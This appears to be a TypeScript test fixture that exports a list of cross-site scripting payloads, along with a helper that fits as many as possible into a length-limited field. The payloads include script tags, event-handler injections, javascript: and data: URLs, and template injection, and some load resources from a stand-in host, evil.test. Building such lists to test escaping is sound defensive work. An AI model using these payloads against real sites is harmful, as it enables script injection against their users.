/** Texts that would run as a program where a page takes them for more than text. All fit into the shortest field. */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=data:,alert(1)></script>',
  '<script>alert(1)//',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert(1)">',
  "<img src=x onerror='alert(1)'>",
  '<img src=x onerror=alert`1`>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:x onerror=alert(1)//',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '`><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '" style="animation:x" onanimationstart="alert(1)',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<svg><a href=javascript:alert(1)><text y=9>x</text></a>',
  '<math href=javascript:alert(1)>x</math>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>x</button>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<a href=javascript:alert(1)>x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href=data:text/html,<script>alert(1)</script>>x</a>',
  ' javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;javascript:alert(1)">',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<style>*{background:url(//evil.test/x)}</style>',
  '{{constructor.constructor("alert(1)")()}}${alert(1)}',
  '&lt;img src=x onerror=alert(1)&gt;＜script＞alert(1)＜/script＞',
];

/** As many of them, one a line and from one of them on, as a field takes. */
export function fieldful(longest: number, from = 0): string {
  const lines: string[] = [];
  for (let at = 0; at < PAYLOADS.length; at += 1) {
    const next = PAYLOADS[(from + at) % PAYLOADS.length]!;
    if ([...lines, next].join('\n').length > longest) break;
    lines.push(next);
  }
  return lines.join('\n');
}
